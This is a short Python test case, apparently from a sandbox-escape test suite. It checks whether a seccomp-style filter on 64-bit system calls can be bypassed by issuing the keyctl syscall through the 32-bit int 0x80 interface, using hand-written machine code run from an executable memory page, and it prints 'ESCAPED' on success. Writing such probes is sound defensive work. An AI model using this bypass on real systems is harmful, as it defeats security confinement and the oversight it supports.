# /// case
# id = "H37f"
# title = "32-bit system calls"
# tries = "goes past a filter of 64-bit system calls by int 0x80, where keyctl has another number"
# limits = { wall_s = 15 }
# needs = ["x86_64"]
# endings = ["ok", "signal"]
# proof = "says ESCAPED when the 32-bit keyctl answers"
# watches = []
# unconfined = "not run: depends on the settings of the machine"
# ///
import ctypes
import mmap

# mov eax,288 (keyctl); xor ebx,ebx (GET_KEYRING_ID); mov ecx,-4 (user keyring); mov edx,1; int 0x80; cdqe; ret
CODE = bytes.fromhex("53b82001000031dbb9fcffffffba01000000cd8048985bc3")
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
call = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
got = call()
print("ESCAPED keyctl by int 0x80" if got > 0 else "refused", got, flush=True)
